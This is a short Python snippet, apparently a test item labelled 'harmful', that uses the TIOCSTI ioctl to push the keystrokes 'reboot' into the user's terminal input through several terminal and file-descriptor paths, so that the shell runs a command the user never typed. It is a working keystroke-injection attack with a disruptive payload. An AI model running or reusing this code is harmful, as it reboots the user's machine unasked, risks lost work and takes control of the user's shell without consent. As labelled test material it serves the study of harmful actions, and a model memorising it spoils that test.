# kind: a command typed for the user at the terminal
# check: stdout
# full: harmful
import fcntl, os, termios
for path in (os.environ["TTY"], "/dev/tty", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        terminal = os.open(path, os.O_RDONLY | os.O_NOCTTY)
        for letter in b"reboot\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    except OSError:
        pass
print("tried")
